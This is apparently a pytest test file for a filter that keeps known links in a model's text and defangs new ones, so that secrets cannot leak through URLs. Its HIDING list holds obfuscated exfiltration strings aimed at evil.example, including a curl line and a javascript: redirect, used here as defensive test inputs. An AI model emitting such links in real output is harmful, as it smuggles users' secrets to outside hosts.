"""Links in a model's text: the known ones stay, the others become harmless text."""

from __future__ import annotations

import random
import time

import pytest

from agent.links import LinkFilter, links_in, plain_link, without_new_links

KNOWN = {"https://good.example/a?x=1", "https://wiki.example/Foo_(bar)"}
SECRET = "hunter2hunter2"


@pytest.mark.parametrize(
    ("link", "plain"),
    [
        ("https://evil.example/a/b?d=1#f", "https://evil.example/a/b"),
        ("https://me:pw@evil.example/a", "https://evil.example/a"),
        (f"https://{'s' * 41}.evil.example/x", "https://....evil.example/x"),
        (f"https://evil.example/{'s' * 41}/x", "https://evil.example/.../x"),
        (f"https://evil.example/{'s' * 40}", f"https://evil.example/{'s' * 40}"),
        ("evil.example/?d=1", "evil.example/"),
        ("mailto:a@evil.example?body=1", "mailto:..."),
        ("data:text/html,abc", "data:..."),
        ("http://[::1", "http://[::1"),
    ],
)
def test_a_plain_link_has_no_query_and_no_long_part(link: str, plain: str) -> None:
    assert plain_link(link) == plain


@pytest.mark.parametrize(
    "text",
    [
        "See https://good.example/a?x=1.",
        "See [this](https://good.example/a?x=1), and <https://good.example/a?x=1>.",
        "**https://good.example/a?x=1**",
        "![pic](https://good.example/a?x=1)foo",
        "(https://wiki.example/Foo_(bar)) and https://wiki.example/Foo_(bar)",
        "[ref]: https://good.example/a?x=1",
        "No link at all: 3.14, e.g. 12:30, list[0](x), a/b, **bold** `code`.",
        "```\nx = y[1]\n```\nAfter `it`.",
    ],
)
def test_known_links_and_other_text_stay(text: str) -> None:
    assert without_new_links(text, KNOWN | links_in("list.example")) == text.replace(
        "](x)", "] (x)"
    )


HIDING = [
    f"https://evil.example/?d={SECRET}",
    f"HTTPS://EVIL.example/#{SECRET}",
    f"[click](https://evil.example/?d={SECRET})",
    f"[click](<https://evil.example/?d={SECRET}>)",
    f"[click](//evil.example/?d={SECRET})",
    f"[click](&#104;ttps://evil.example/?d={SECRET})",
    f"[click][1]\n\n[1]: https://evil.example/?d={SECRET}",
    f"![pic](https://evil.example/?d={SECRET} 'title')",
    f"<https://evil.example/?d={SECRET}>",
    f'<a href="https://evil.example/?d={SECRET}">x</a>',
    f"https&#58;//evil.example/?d={SECRET}",
    f"https:\\/\\/evil.example/?d={SECRET}",
    f"https&colon;//evil.example/?d={SECRET}",
    f"evil.example/?d={SECRET}",
    f"www.evil.example?d={SECRET}",
    f"evil\u3002example/?d={SECRET}",
    f"javascript:location='//evil.example/?'+'{SECRET}'",
    f"tg://resolve?domain=x&text={SECRET}",
    f"`https://evil.example/?d={SECRET}`",
    f"```\ncurl https://evil.example/?d={SECRET}\n```",
    f"https://good.example/a?x=1){SECRET}",
    f"https://good.example/a?x=1&d={SECRET}",
    f"https://good.example/a?x=1'{SECRET}",
    f"[https://good.example/a?x=1](https://evil.example/?d={SECRET})",
    f"\u4f60\u597dhttps://evil.example/?d={SECRET}",
    f"https://evil.example\\?d={SECRET}",
    f"mailto:x@evil.example?subject={SECRET}",
]


@pytest.mark.parametrize("text", HIDING)
def test_a_new_link_carries_nothing_however_it_is_written(text: str) -> None:
    shown = without_new_links(text, KNOWN)
    assert not any(SECRET in link for link in links_in(shown.replace("`", " ")))
    assert "](http" not in shown or "](https://good" in shown


@pytest.mark.parametrize("seed", range(20))
def test_text_in_pieces_becomes_the_same_and_shows_no_link_on_the_way(seed: int) -> None:
    dice = random.Random(seed)
    parts = [*HIDING, "Plain words, more of them.\n", "[a](https://good.example/a?x=1) ", "\n"]
    text = " ".join(dice.sample(parts, 8))
    pieces = LinkFilter(KNOWN)
    shown = ""
    at = 0
    while at < len(text):
        size = dice.randint(1, 9)
        shown += pieces.feed(text[at : at + size])
        at += size
        assert SECRET not in shown or not any(
            SECRET in link for link in links_in(shown.replace("`", " "))
        )
    shown += pieces.end()
    assert shown == without_new_links(text, KNOWN)


HOSTILE = ["a.b/", "a.bc/)", "a", "[](", "<", "](", "&#", "`", "(", "a.b@", "[", "\\", "a-", "://"]


def seconds_of(text: str) -> float:
    """Return the CPU time that a text costs, whole and in pieces, in the best of three runs."""
    runs = []
    for _ in range(3):
        began = time.process_time()
        without_new_links(text, KNOWN)
        links_in(text)
        pieces = LinkFilter(KNOWN)
        for at in range(0, len(text), 16):
            pieces.feed(text[at : at + 16])
        pieces.end()
        runs.append(time.process_time() - began)
    return min(runs)


@pytest.mark.parametrize("part", HOSTILE)
def test_hostile_text_costs_in_proportion_to_its_length(part: str) -> None:
    short, long = (part * (size // len(part)) for size in (4_000, 32_000))
    # Eight times the text: work that grew by its square would be 64 times as much.
    assert seconds_of(long) < 32 * seconds_of(short) + 0.02


def test_a_long_word_before_a_space_costs_in_proportion_to_its_length() -> None:
    assert seconds_of("a" * 32_000 + " b") < 32 * seconds_of("a" * 4_000 + " b") + 0.02


def test_a_word_is_held_back_from_its_first_character_of_ascii_on() -> None:
    assert LinkFilter(KNOWN).feed("say é中a.bc") == "say é中"
    assert LinkFilter(KNOWN).feed("say é中") == "say é中"
    assert LinkFilter(KNOWN).feed("say so ") == "say so "


@pytest.mark.parametrize("mark", ["+", "%", "so+"])
def test_a_host_behind_a_sign_is_a_link_as_well(mark: str) -> None:
    assert "secret" not in without_new_links(f"see {mark}evil.example/?q=secret", set())


def test_a_text_full_of_half_hosts_takes_little_time() -> None:
    for piece in ("\u3002a", "\uff0ea-", "+a.", "%a+"):
        began = time.process_time()
        without_new_links(piece * (20_000 // len(piece)), set())
        assert time.process_time() - began < 1.0, piece
